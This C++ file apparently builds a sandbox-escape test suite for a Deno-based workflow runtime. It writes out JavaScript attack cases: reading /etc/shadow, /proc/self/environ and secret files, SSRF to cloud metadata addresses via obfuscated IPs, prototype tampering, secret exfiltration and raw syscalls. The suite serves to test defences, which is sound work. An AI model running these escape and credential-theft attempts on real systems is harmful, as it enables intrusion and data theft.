#include "tests/escapes/cases.h"

#include <utility>

namespace tntc::escapes {
namespace {

// A text for JavaScript source.
std::string quoted(const std::string& text) {
  return "\"" + text + "\"";
}

constexpr const char* kFetch = "what the runtime itself sees to";

class Book {
 public:
  explicit Book(Targets targets) : to_(std::move(targets)) {}

  std::vector<Case> take() { return std::move(cases_); }

  void language() {
    const char* const group = "language";
    const auto code = [&](const char* name, const std::string& expression) {
      add({group, name, "", "return got(" + expression + ");"});
    };
    code("Function", "Function('return 7')()");
    code("new Function", "new Function('return 7')()");
    code("eval", "eval('7')");
    code("indirect eval", "(0, eval)('7')");
    code("constructor of an async function", "await (async () => {}).constructor('return 7')()");
    code("constructor of a generator", "(function* () {}).constructor('return 7')().next().value");
    code("constructor of an async generator",
         "(await (async function* () {}).constructor('yield 7')().next()).value");
    code("constructor chain of ctx", "ctx.constructor.constructor('return 7')()");
    code("constructor chain of ctx.fetch", "ctx.fetch.constructor('return 7')()");
    code("constructor chain of ctx.log", "ctx.log.info.constructor('return 7')()");
    code("constructor chain of the input", "input.constructor.constructor('return 7')()");
    code("constructor chain of a host error",
         "await fetch('nonsense:').catch((e) => e.constructor.constructor('return 7')())");
    code("constructor chain of a signal", "ctx.signal.constructor.constructor('return 7')()");
    code("constructor chain of a promise",
         "ctx.fetch('x', '/').catch(() => {}).constructor"
         ".constructor('return 7')()");
    code("Reflect.construct(Function)", "Reflect.construct(Function, ['return 7'])()");
    code("Function through bind", "Function.bind(null, 'return 7')()()");
    code("Function through a getter on a proxy",
         "new Proxy(function () {}, {}).constructor('return 7')()");
    add({group, "setTimeout with text", "",
         "globalThis.pwned = undefined; try { setTimeout('globalThis.pwned = 7', 0); } catch {} "
         "await new Promise((r) => setTimeout(r, 20)); if (globalThis.pwned === 7) return got(7); "
         "if (typeof raw === 'function') return got(eval('7')); throw new Error('no');"});
  }

  // None of these may be there, whatever walls are: what is not bound cannot be reached.
  void absent() {
    const auto is = [&](const char* name, const std::string& expression) {
      add({"absent powers", name, "", "return got(" + expression + ");"});
    };
    is("WebAssembly", "WebAssembly.Module.name");
    is("ShadowRealm", "new ShadowRealm().evaluate('7')");
    is("Worker", "new Worker('data:text/javascript,1')");
    is("importScripts", "importScripts.name");
    is("require", "require('fs').readFileSync('/etc/passwd')");
    is("process", "process.pid");
    is("module.constructor", "module.constructor._load('fs')");
    is("$vm", "$vm.createGlobalObject()");
    is("the shell's readFile", "readFile('/etc/passwd')");
    is("the shell's load", "load('/etc/passwd')");
    is("the shell's runString", "runString('7')");
    is("jscOptions", "jscOptions()");
    is("Deno.run", "Deno.run({ cmd: ['true'] })");
    is("Deno.Command", "await new Deno.Command('true').output()");
    is("Deno.dlopen", "Deno.dlopen('libc.so.6', {})");
    is("Deno.listen", "Deno.listen({ port: 0 }).addr.port");
    is("Deno.serve", "Deno.serve({ port: 0 }, () => {}).addr.port");
    is("Deno.kill", "(Deno.kill(1, 'SIGCONT'), 'sent')");
    is("Deno.core", "Deno.core.ops.op_read");
    is("Deno[Deno.internal]", "Deno[Deno.internal].core");
    is("Deno.setuid by Deno.permissions", "await Deno.permissions.request({ name: 'run' })");
    is("import of a file", "(await import('file:///etc/passwd')).default");
    is("import of data", "(await import('data:text/javascript,export default 7')).default");
    is("import over http", "(await import('http://127.0.0.1:" + to_.peer + "/')).default");
    is("import of a builtin", "(await import('node:fs')).readFileSync('/etc/passwd')");
    is("import of another node", "(await import('./nodes/a.js')).default");
    is("import by a made-up name", "(await import('tntc-internal:core')).default");
  }

  // Getting at what the prelude keeps for itself by changing what it uses.
  void tampering() {
    const auto is = [&](const char* name, const std::string& code) {
      add({"the prelude's own objects", name, "", code});
    };
    const std::string look =
        "const seen = []; const note = (v) => { try { if (v && (typeof v.done === 'function' && "
        "typeof v.chunk === 'function' || typeof v.invoke === 'function' && "
        "typeof v.load === 'function')) seen.push(v); } catch {} return v; }; "
        "const use = async () => { try { ctx.log.info('x', { a: [1] }); new URL('http://a/b?c'); "
        "new TextEncoder().encode('x'); structuredClone({ a: 1 }); await "
        "fetch('http://127.0.0.1:" +
        to_.peer +
        "/').then((r) => r.text()); setTimeout(() => {}, 0); crypto.randomUUID(); } catch {} }; "
        "const verdict = () => { if (seen.length) return got('the host object'); "
        "throw new Error('nothing was seen'); };";
    is("setters on Object.prototype",
       look +
           "for (const k of ['chunk','done','log','host','core','__proto','0','value','fetch']) "
           "Object.defineProperty(Object.prototype, k, { configurable: true, set(v) { note(v); "
           "note(this); }, get() { note(this); } }); await use(); for (const k of "
           "['chunk','done','log','host','core','__proto','0','value','fetch']) "
           "delete Object.prototype[k]; return verdict();");
    is("patched Function.prototype.call",
       look +
           "const { call } = Function.prototype; Function.prototype.call = function (...a) { "
           "note(this); a.forEach(note); return Reflect.apply(this, a[0], a.slice(1)); }; "
           "await use(); Function.prototype.call = call; return verdict();");
    is("patched Function.prototype.apply and bind",
       look +
           "for (const k of ['apply', 'bind']) Function.prototype[k] = function (...a) { "
           "note(this); a.forEach(note); throw 1; }; await use(); return verdict();");
    is("patched Reflect.apply",
       look +
           "const { apply } = Reflect; Reflect.apply = (...a) => { a.forEach(note); "
           "return apply(...a); }; await use(); Reflect.apply = apply; return verdict();");
    is("patched Promise.prototype.then",
       look +
           "const { then } = Promise.prototype; Promise.prototype.then = function (...a) { "
           "note(this); a.forEach(note); return Reflect.apply(then, this, a); }; await use(); "
           "Promise.prototype.then = then; return verdict();");
    is("patched Array.prototype",
       look +
           "for (const k of ['push','slice','map','join','flat','forEach']) { const f = "
           "Array.prototype[k]; Array.prototype[k] = function (...a) { note(this); "
           "for (let i = 0; i < a.length; i++) note(a[i]); return Reflect.apply(f, this, a); }; } "
           "await use(); return verdict();");
    is("patched Map.prototype",
       look +
           "for (const k of ['get','set','has','delete']) { const f = Map.prototype[k]; "
           "Map.prototype[k] = function (...a) { note(this); for (const v of a) note(v); "
           "return Reflect.apply(f, this, a); }; } await use(); return verdict();");
    is("patched JSON and Object functions",
       look +
           "for (const [o, k] of [[JSON,'parse'],[JSON,'stringify'],[Object,'keys'],"
           "[Object,'create'],[Object,'defineProperty']]) { const f = o[k]; o[k] = (...a) => { "
           "a.forEach(note); return note(Reflect.apply(f, o, a)); }; } await use(); "
           "return verdict();");
    is("Symbol.species and iterators",
       look +
           "const it = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = "
           "function () { note(this); for (let i = 0; i < this.length; i++) note(this[i]); "
           "return Reflect.apply(it, this, []); }; await use(); "
           "Array.prototype[Symbol.iterator] = it; return verdict();");
    is("Error.prepareStackTrace",
       look +
           "Error.prepareStackTrace = (e, frames) => { for (const f of frames ?? []) { "
           "note(f.getThis?.()); note(f.getFunction?.()); } return 'x'; }; await use(); "
           "try { ctx.fetch(); } catch (e) { String(e.stack); } return verdict();");
    is("arguments.callee.caller",
       "function f() { return arguments.callee.caller; } return got(f().name || 'a caller');");
    is("the caller of a node function",
       "const f = Object.getOwnPropertyDescriptor(Function.prototype, 'caller'); "
       "function g() { return f.get.call(g); } const c = g(); if (!c) throw new Error('none'); "
       "return got(c.name);");
    is("a thenable output that looks around",
       look +
           "let seenThis; const out = { then(ok) { note(this); seenThis = ok; note(ok); ok(1); } "
           "}; await out; return verdict();");
  }

  void files() {
    const std::string secret = to_.outside + "/secret.txt";
    const auto read = [&](const char* name, const std::string& path, const char* keys = "") {
      add({"files", name, keys,
           "return attempt(() => Deno.readTextFile(" + quoted(path) + "), () => raw('read', " +
               quoted(path) + "));"});
    };
    read("read a file outside", secret);
    read("read /etc/shadow", "/etc/shadow");
    read("read with ..", to_.workflow + "/../" + leaf(to_.outside) + "/secret.txt");
    read("read through a link to a directory", to_.workflow + "/link-out/secret.txt");
    read("read through a link to a file", to_.workflow + "/link-file");
    read("read through /proc/self/root", "/proc/self/root" + secret);
    read("read through /proc/self/cwd", "/proc/self/cwd/../../../../../../../../.." + secret);
    read("read .secrets.yaml", to_.workflow + "/.secrets.yaml");
    read("read .secrets.yaml by way of ..", to_.workflow + "/nodes/../.secrets.yaml");
    read("read what `read` does not name", to_.workflow + "/data.txt", "capabilities: {read: []}");
    read("read /proc/self/environ", "/proc/self/environ");
    add({"files", "open /proc/self/mem", "",
         "return attempt(async () => (await Deno.readFile('/proc/self/mem')).length, () => "
         "raw('stat', '/proc/self/mem'));"});
    read("read /proc/self/maps", "/proc/self/maps");
    read("read ~/.bashrc", "/root/.bashrc");
    read("read with a NUL in the path", secret + "\\u0000.txt");
    add({"files", "read the parent's environment", "",
         "return attempt(() => { throw new Error('no pid'); }, () => raw('read', '/proc/' + "
         "raw('parent') + '/environ'));"});
    add({"files", "read the parent's descriptors", "",
         "return attempt(() => { throw new Error('no pid'); }, () => raw('list', '/proc/' + "
         "raw('parent') + '/fd'));"});
    add({kFetch, "read what the service handed over, again", "capabilities: {secrets: []}",
         "const find = async (read) => { for (let fd = 3; fd < 40; fd++) try { const text = await "
         "read('/proc/self/fd/' + fd); if (String(text).includes('canary')) return 'the canary'; } "
         "catch {} throw new Error('not found'); }; return attempt(() => find((p) => "
         "Deno.readTextFile(p)), () => find((p) => raw('read', p)));"});
    const auto write = [&](const char* name, const std::string& path, const char* keys = "") {
      add({"files", name, keys,
           "return attempt(async () => { await Deno.writeTextFile(" + quoted(path) +
               ", '0'); return 'written'; }, () => raw('write', " + quoted(path) + ", '0'));"});
    };
    write("write a new file outside", to_.outside + "/new.txt");
    write("write in the workflow directory", to_.workflow + "/new.txt");
    write("write over the workflow", to_.workflow + "/workflow.yaml");
    write("write through a link", to_.workflow + "/link-out/new2.txt");
    write("write /proc/self/oom_score_adj", "/proc/self/oom_score_adj");
    write("write what `write` does not name", "/tmp/tntc-escape-x", "capabilities: {write: []}");
    add({"files", "list a directory outside", "",
         "return attempt(async () => { for await (const e of Deno.readDir(" + quoted(to_.outside) +
             ")) return e.name; }, () => raw('list', " + quoted(to_.outside) + "));"});
    add({"files", "stat a file outside", "",
         "return attempt(async () => (await Deno.stat(" + quoted(secret) +
             ")).size, () => raw('stat', " + quoted(secret) + "));"});
    add({"files", "make a directory outside", "",
         "return attempt(async () => { await Deno.mkdir(" + quoted(to_.outside + "/dir") +
             "); return 'made'; }, () => raw('mkdir', " + quoted(to_.outside + "/dir2") + "));"});
    add({"files", "remove a file outside", "",
         "return attempt(async () => { await Deno.remove(" + quoted(to_.outside + "/victim1.txt") +
             "); return 'removed'; }, () => raw('remove', " + quoted(to_.outside + "/victim2.txt") +
             "));"});
    add({"files", "rename a file from outside", "",
         "return attempt(async () => { await Deno.rename(" + quoted(to_.outside + "/victim3.txt") +
             ", '/tmp/tntc-escape-y'); return 'renamed'; }, () => raw('rename', " +
             quoted(to_.outside + "/victim4.txt") + ", " + quoted(to_.outside + "/moved.txt") +
             "));"});
    add({"files", "copy a file from outside", "",
         "return attempt(async () => { await Deno.copyFile(" + quoted(secret) +
             ", '/tmp/tntc-escape-z'); return 'copied'; }, () => raw('read', " + quoted(secret) +
             "));"});
    add({"files", "make a hard link to a file outside", "",
         "return attempt(async () => { await Deno.link(" + quoted(secret) +
             ", '/tmp/tntc-escape-l'); return 'linked'; }, () => raw('link', " + quoted(secret) +
             ", " + quoted(to_.outside + "/linked.txt") + "));"});
    add({"files", "cut a file outside", "",
         "return attempt(async () => { await Deno.truncate(" +
             quoted(to_.outside + "/victim5.txt") + "); return 'cut'; }, () => raw('truncate', " +
             quoted(to_.outside + "/victim5.txt") + "));"});
    add({kFetch, "a file: URL in fetch", "",
         "return attempt(async () => (await fetch('file://" + secret + "')).text());"});
  }

  void network() {
    const char* const keys = "capabilities: {net: [\"localhost:";
    const std::string allowed = keys + to_.peer + "\"]}";
    const auto reach = [&](const std::string& name, const std::string& url,
                           const std::string& given, const std::string& native = {}) {
      add({"network", name, given,
           "return attempt(() => reach(" + quoted(url) + ")" +
               (native.empty() ? "" : ", () => raw('connect', " + native + ")") + ");"});
    };
    const std::string loopback = "'127.0.0.1', '" + to_.other + "'";
    const std::pair<const char*, const char*> spellings[] = {
        {"loopback", "127.0.0.1"},
        {"loopback, short", "127.1"},
        {"loopback, decimal", "2130706433"},
        {"loopback, octal", "0177.0.0.1"},
        {"loopback, hexadecimal", "0x7f.0.0.1"},
        {"loopback, one hexadecimal", "0x7f000001"},
        {"loopback, mapped into IPv6", "[::ffff:127.0.0.1]"},
        {"loopback, mapped, hexadecimal", "[::ffff:7f00:1]"},
        {"the unspecified address", "0.0.0.0"},
        {"zero", "0"},
        {"another name for loopback", "localhost.localdomain"},
        {"full-width digits", "１２７.0.0.1"},
    };
    for (const auto& [name, host] : spellings) {
      reach(std::string(name) + ", not in `net`",
            std::string("http://") + host + ":" + to_.other + "/", allowed, loopback);
    }
    reach("another port of an allowed host", "http://localhost:" + to_.other + "/", allowed,
          loopback);
    reach("user information that looks like an allowed host",
          "http://localhost:" + to_.peer + "@127.0.0.1:" + to_.other + "/", allowed, loopback);
    reach("a backslash before the host",
          "http://localhost:" + to_.peer + "\\\\@127.0.0.1:" + to_.other + "/x",
          "capabilities: {net: []}", loopback);
    reach("a redirect to a host not in `net`", "http://localhost:" + to_.peer + "/to-other",
          allowed, loopback);
    reach("a redirect to a metadata address", "http://localhost:" + to_.peer + "/to-metadata", "",
          "'169.254.169.254', '80'");
    add({kFetch, "a redirect to a file", "",
         "return attempt(() => reach('http://localhost:" + to_.peer + "/to-file'));"});
    reach("nothing granted, strict by an empty list", "http://localhost:" + to_.peer + "/",
          "capabilities: {net: []}", "'127.0.0.1', '" + to_.peer + "'");
    const std::pair<const char*, const char*> metadata[] = {
        {"the metadata address", "169.254.169.254"},
        {"the metadata address, decimal", "2852039166"},
        {"the metadata address, octal", "0251.0376.0251.0376"},
        {"the metadata address, hexadecimal", "0xa9.0xfe.0xa9.0xfe"},
        {"the metadata address, mixed", "0xa9fea9fe"},
        {"the metadata address, mapped into IPv6", "[::ffff:169.254.169.254]"},
        {"the metadata address, NAT64", "[64:ff9b::a9fe:a9fe]"},
        {"the metadata address, 6to4", "[2002:a9fe:a9fe::]"},
        {"the metadata address of AWS, IPv6", "[fd00:ec2::254]"},
        {"the metadata address of Alibaba", "100.100.100.200"},
        {"a link-local address, IPv6", "[fe80::1]"},
    };
    for (const auto& [name, host] : metadata) {
      reach(name, std::string("http://") + host + "/", "", "'169.254.169.254', '80'");
    }
    add({"network", "a TCP connection to a host not in `net`", allowed,
         "return attempt(async () => { const c = await Deno.connect({ hostname: '127.0.0.1', "
         "port: " +
             to_.other + " }); c.close(); return 'connected'; }, () => raw('connect', " + loopback +
             "));"});
    add({"absent powers", "a look-up of a name not in `net`", allowed,
         "return attempt(async () => { try { return await Deno.resolveDns('secret.attacker.test', "
         "'A'); } catch (e) { if (/may not/.test(e.message) || !/dns|resolve|lookup|known|found/i"
         ".test(e.message)) throw e; return 'asked: ' + e.message; } });"});
    add({"absent powers", "a WebSocket", "capabilities: {net: []}",
         "return got(new WebSocket('ws://127.0.0.1:" + to_.other + "/').readyState);"});
    add({kFetch, "credentials to another host", "",
         "const r = await ctx.fetch('vault', 'http://127.0.0.1:" + to_.peer +
             "/echo'); const text = await r.text(); if (text.includes('canary')) return got(text); "
             "throw new Error('not sent');"});
    add({kFetch, "credentials to a host spelt into the path", "",
         "const hosts = []; for (const p of ['@127.0.0.1:" + to_.peer +
             "/echo', '.127.0.0.1:" + to_.peer + "/echo', '//127.0.0.1:" + to_.peer +
             "/echo', '\\\\\\\\127.0.0.1/echo']) try { const r = await ctx.fetch('vault', p); "
             "hosts.push(await r.text()); } catch {} if (hosts.join().includes('canary')) "
             "return got(hosts); throw new Error('not sent');"});
  }

  void secrets() {
    const auto is = [&](const char* name, const std::string& code) {
      add({"secrets and variables", name, "capabilities: {secrets: [other]}", code});
    };
    is("a secret that is not declared", "return got(need(ctx.secrets.vault?.token));");
    is("all secrets by spreading", "return got(need(({ ...ctx.secrets }).vault));");
    add({kFetch, "a secret through the prototype of ctx.secrets",
         "capabilities: {secrets: [other]}",
         "return got(need(Object.getPrototypeOf(ctx.secrets)?.vault));"});
    add({kFetch, "a secret that is not declared, through ctx.fetch",
         "capabilities: {secrets: [other]}",
         "const r = await ctx.fetch('vault', 'http://127.0.0.1:" + to_.peer +
             "/echo'); const t = await r.text(); if (t.includes('canary')) return got(t); "
             "throw new Error('not sent');"});
    add({kFetch, "an environment variable of the service", "",
         "return attempt(() => need(Deno.env.get('TNTC_CANARY')), () => raw('env', "
         "'TNTC_CANARY'));"});
    add({kFetch, "all environment variables", "",
         "return attempt(() => need(Object.keys(Deno.env.toObject()).find((k) => k === "
         "'TNTC_CANARY')), () => raw('env', 'TNTC_CANARY'));"});
  }

  void kernel() {
    const auto is = [&](const char* name, const std::string& call) {
      add({"system calls", name, "",
           "return attempt(() => { throw new Error('script has no system calls'); }, () => " +
               call + ");"});
    };
    is("run a program", "raw('exec', '/bin/true')");
    is("run a program from memory", "raw('exec-memory')");
    is("read another process's memory", "raw('parent-memory')");
    is("trace another process", "raw('trace-parent')");
    is("signal another process", "raw('signal-parent')");
    is("open another process by pidfd", "raw('pidfd')");
    is("a raw socket", "raw('raw-socket')");
    is("a packet socket", "raw('packet-socket')");
    is("a virtual machine socket", "raw('vsock')");
    is("new namespaces", "raw('unshare')");
    is("join namespaces", "raw('setns')");
    is("mount", "raw('mount')");
    is("chroot", "raw('chroot')");
    is("make a device", "raw('mknod')");
    is("open by handle", "raw('handle')");
    is("load a BPF program", "raw('bpf')");
    is("performance counters", "raw('perf')");
    is("userfaultfd", "raw('userfaultfd')");
    is("io_uring", "raw('io_uring')");
    is("kernel keys", "raw('keyctl')");
    is("set the clock", "raw('clock')");
    is("change the user", "raw('setuid')");
    is("the kernel's log", "raw('syslog')");
  }

  void neighbours() {
    const auto is = [&](const char* name, const std::string& code, const std::string& victim) {
      add({"neighbours", name, "", code + " return 'done';", victim});
    };
    is("Object.prototype of another node", "Object.prototype.pwned = 7;",
       "return ({}).pwned === 7 ? got(7) : 'clean';");
    is("Array.prototype.map of another node", "Array.prototype.map = () => ['pwned'];",
       "return [1].map((x) => x)[0] === 'pwned' ? got(7) : 'clean';");
    is("Promise.prototype.then of another node",
       "Promise.prototype.then = function () { globalThis.stolen = this; return this; };",
       "const p = Promise.resolve(1); return (await p) === 1 && globalThis.stolen === undefined ? "
       "'clean' : got(7);");
    is("JSON of another node", "JSON.stringify = () => '\"pwned\"'; JSON.parse = () => 'pwned';",
       "return JSON.stringify(1) === '1' && ctx.config !== 'pwned' ? 'clean' : got(7);");
    is("globals of another node", "globalThis.shared = { secret: ctx.secrets };",
       "return typeof shared === 'undefined' ? 'clean' : got('shared');");
    is("ctx.config of another node", "ctx.config.pwned = 7;",
       "return ctx.config.pwned === 7 ? got(7) : 'clean';");
    is("ctx.secrets of another node", "ctx.secrets.vault.token = 'pwned';",
       "return ctx.secrets.vault.token === 'pwned' ? got(7) : 'clean';");
    is("fetch of another node", "globalThis.fetch = async () => new Response('pwned');",
       "return (await (await fetch('http://127.0.0.1:" + to_.peer +
           "/')).text()) === 'pwned' ? got(7) : 'clean';");
    is("the symbol registry of another node", "Symbol.for('x').description.constructor.pwned = 7;",
       "return String.pwned === 7 ? got(7) : 'clean';");
    is("Error.stackTraceLimit of another node", "Error.stackTraceLimit = 0;",
       "return new Error('x').stack?.length > 0 && Error.stackTraceLimit !== 0 ? 'clean' : "
       "got(7);");
  }

  void limits() {
    const auto is = [&](const char* name, const std::string& code) {
      add({"limits", name, "timeout: 300ms", code + " return got('the end');"});
    };
    is("an endless loop", "for (;;) {}");
    is("an endless loop in toJSON", "JSON.stringify({ toJSON() { for (;;) {} } });");
    is("an endless loop in a sort", "[3, 2, 1].sort(() => { for (;;) {} });");
    is("an endless chain of jobs", "const f = () => Promise.resolve().then(f); await f();");
    is("a promise that never settles", "await new Promise(() => {});");
    is("text of ten gigabytes",
       "const s = 'x'.repeat(2 ** 30 - 1); const all = []; "
       "for (let i = 0; i < 10; i++) all.push(s + i + s); all.join('');");
    is("a buffer of three gigabytes", "new Uint8Array(3e9).fill(1);");
    is("endless recursion", "const f = (n) => f(n + 1) + 1; f(0);");
    add({"limits", "a timer after its run has ended", "",
         "if (globalThis.begun) { await new Promise((r) => setTimeout(r, 60)); "
         "return globalThis.late === 1 ? got(1) : 'clean'; } globalThis.begun = true; "
         "setTimeout(() => { globalThis.late = 1; }, 30); return 'done';",
         "again"});
    is("Deno.exit", "Deno.exit(0);");
    is("a sleep in shared memory",
       "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 60000);");
  }

 private:
  static std::string leaf(const std::string& path) { return path.substr(path.rfind('/') + 1); }

  void add(Case one) { cases_.push_back(std::move(one)); }

  Targets to_;
  std::vector<Case> cases_;
};

}  // namespace

const char* const kBefore = R"js(
const got = (value) => { if (value === undefined || value === null) throw new Error("nothing");
  return "got: " + String(value).slice(0, 60); };
const need = (value) => { if (value === undefined || value === null) throw new Error("nothing");
  return value; };
// First as script can, then, where the realm's wall was left out, by system calls.
async function attempt(asScript, natively) {
  let why;
  try { return got(await asScript()); } catch (reason) { why = reason; }
  if (natively !== undefined && typeof raw === "function") return got(await natively());
  throw why;
}
// An answer, or an error of the network, means that the request was let out.
async function reach(url) {
  try { return await (await fetch(url)).text(); } catch (reason) {
    const text = String(reason?.message ?? reason);
    if (/may not reach|is not allowed|not supported|Invalid URL|not a URL|holds a user|scheme/i.test(text)) throw reason;
    return "the network said: " + text;
  }
}
)js";

std::vector<Case> make_cases(const Targets& targets) {
  Book book(targets);
  book.language();
  book.absent();
  book.tampering();
  book.files();
  book.network();
  book.secrets();
  book.kernel();
  book.neighbours();
  book.limits();
  return book.take();
}

}  // namespace tntc::escapes
